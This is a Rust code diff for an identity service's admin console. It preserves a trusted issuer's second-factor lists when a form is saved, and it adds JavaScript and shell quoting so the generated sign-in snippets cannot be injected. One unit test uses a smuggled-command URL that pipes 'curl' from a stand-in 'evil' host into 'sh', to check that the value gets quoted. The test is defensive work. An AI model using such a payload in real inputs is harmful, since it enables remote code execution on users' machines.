@@ -118,8 +118,10 @@ impl AppForm {
         }
     }
 
-    /// The settings every form has, parsed; a field that cannot be read is an `Invalid` error.
-    fn settings(&self) -> Result<Settings, Error> {
+    /// The settings every form has, parsed; a field that cannot be read is an `Invalid` error. The
+    /// trusted issuer's second-factor lists (set through the API; the form does not show them) are
+    /// kept from `stored` while the issuer stays the same.
+    fn settings(&self, stored: Option<&UpstreamTrust>) -> Result<Settings, Error> {
         let lines = |text: &str| -> Vec<String> {
             text.lines()
                 .map(str::trim)
@@ -140,12 +142,15 @@ impl AppForm {
         };
         let trust = match (self.trust_issuer.trim(), self.trust_audience.trim()) {
             ("", "") => None,
-            (issuer, audience) => Some(UpstreamTrust {
-                issuer: issuer.to_owned(),
-                audience: audience.to_owned(),
-                second_factor_amr: Vec::new(),
-                second_factor_acr: Vec::new(),
-            }),
+            (issuer, audience) => {
+                let kept = stored.filter(|t| t.issuer == issuer);
+                Some(UpstreamTrust {
+                    issuer: issuer.to_owned(),
+                    audience: audience.to_owned(),
+                    second_factor_amr: kept.map(|t| t.second_factor_amr.clone()).unwrap_or_default(),
+                    second_factor_acr: kept.map(|t| t.second_factor_acr.clone()).unwrap_or_default(),
+                })
+            }
         };
         Ok(Settings {
             name: self.name.trim().to_owned(),
@@ -293,7 +298,7 @@ pub(super) async fn create(
         Some(k) => ApplicationKind::parse(k),
         None => Some(ApplicationKind::Browser),
     };
-    let parsed = form.settings().and_then(|s| {
+    let parsed = form.settings(None).and_then(|s| {
         let kind = kind.ok_or_else(|| Error::invalid("kind", "choose browser, server or native"))?;
         Ok(NewApplication {
             name: s.name,
@@ -362,7 +367,8 @@ pub(super) async fn update(
     let (mut c, form, _): (_, AppForm, _) = console_form(&state, &workspace, &here, request).await?;
     let id = parse_id(&id)?;
     let services = state.services();
-    let saved = match form.settings() {
+    let stored = services.workspace_application(&c.caller, id).await?;
+    let saved = match form.settings(stored.trust.as_ref()) {
         Ok(s) => {
             let patch = ApplicationPatch {
                 name: Some(s.name),
@@ -559,9 +565,9 @@ fn snippet_page(issuer: &str, app: &Application) -> String {
         .unwrap_or_else(|| "https://app.example.com/callback".into());
     format!(
         r#"<script type="module">
-const issuer = "{issuer}";
-const clientId = "{id}";
-const redirectUri = "{redirect}";
+const issuer = {issuer};
+const clientId = {id};
+const redirectUri = {redirect};
 const b64 = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes)))
   .replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
 const params = new URLSearchParams(location.search);
@@ -593,8 +599,20 @@ export async function signIn() {{
     code_challenge: challenge, code_challenge_method: "S256" }}));
 }}
 </script>"#,
-        id = app.id,
+        issuer = js(issuer),
+        id = js(&app.id.to_string()),
+        redirect = js(&redirect),
     )
+}
+
+/// A JavaScript string literal (JSON is a subset), whatever the text holds.
+fn js(text: &str) -> String {
+    serde_json::to_string(text).unwrap_or_else(|_| "\"\"".into())
+}
+
+/// A single-quoted shell word, whatever the text holds.
+fn sh(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
 }
 
 /// curl: a guest session when the application allows one (else the code exchange), and the vault.
@@ -617,11 +635,11 @@ fn snippet_curl(base: &str, issuer: &str, app: &Application) -> String {
              TOKEN=$(curl -s -X POST {issuer}/token {auth} \\\n  \
              -d grant_type=authorization_code -d code=$CODE -d code_verifier=$VERIFIER \\\n  \
              --data-urlencode redirect_uri={redirect} | jq -r .access_token)",
-            redirect = app
+            redirect = sh(app
                 .redirect_uris
                 .first()
                 .map(String::as_str)
-                .unwrap_or("https://app.example.com/callback"),
+                .unwrap_or("https://app.example.com/callback")),
         )
     };
     format!(
@@ -638,16 +656,75 @@ fn snippet_verify(base: &str, issuer: &str, app: &Application) -> String {
     format!(
         r#"import {{ createRemoteJWKSet, jwtVerify }} from "jose";
 
-const keys = createRemoteJWKSet(new URL("{base}/.well-known/jwks.json"));
+const keys = createRemoteJWKSet(new URL({jwks}));
 
 export async function verifySessionToken(token) {{
   const {{ payload }} = await jwtVerify(token, keys, {{
-    issuer: "{issuer}",
-    audience: "{id}",
+    issuer: {issuer},
+    audience: {id},
     typ: "sf-session+jwt",
   }});
   return payload; // payload.sub is the user; revocation shows at the server within seconds
 }}"#,
-        id = app.id
+        jwks = js(&format!("{base}/.well-known/jwks.json")),
+        issuer = js(issuer),
+        id = js(&app.id.to_string()),
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn snippets_quote_what_they_hold() {
+        assert_eq!(
+            sh("https://x/cb?a=1;curl${IFS}evil|sh"),
+            "'https://x/cb?a=1;curl${IFS}evil|sh'"
+        );
+        assert_eq!(sh("it's"), "'it'\\''s'");
+        assert_eq!(js("a\"b</script>\\"), "\"a\\\"b</script>\\\\\"");
+    }
+
+    #[test]
+    fn saving_keeps_the_trusted_issuers_second_factor_lists() {
+        let stored = UpstreamTrust {
+            issuer: "https://accounts.example".into(),
+            audience: "aud".into(),
+            second_factor_amr: vec!["mfa".into()],
+            second_factor_acr: vec!["loa2".into()],
+        };
+        let form = |issuer: &str| AppForm {
+            csrf: String::new(),
+            name: "App".into(),
+            kind: None,
+            redirect_uris: String::new(),
+            post_logout_uris: String::new(),
+            allowed_origins: String::new(),
+            allow_anonymous: None,
+            token_minutes: String::new(),
+            data_hours: String::new(),
+            trust_issuer: issuer.into(),
+            trust_audience: "aud2".into(),
+        };
+        let kept = form("https://accounts.example")
+            .settings(Some(&stored))
+            .unwrap()
+            .trust
+            .unwrap();
+        assert_eq!(
+            (kept.audience.as_str(), kept.second_factor_amr.clone()),
+            ("aud2", vec!["mfa".to_owned()])
+        );
+        assert_eq!(kept.second_factor_acr, ["loa2"]);
+        let other = form("https://other.example")
+            .settings(Some(&stored))
+            .unwrap()
+            .trust
+            .unwrap();
+        assert!(
+            other.second_factor_amr.is_empty(),
+            "another issuer starts with none"
+        );
+    }
 }
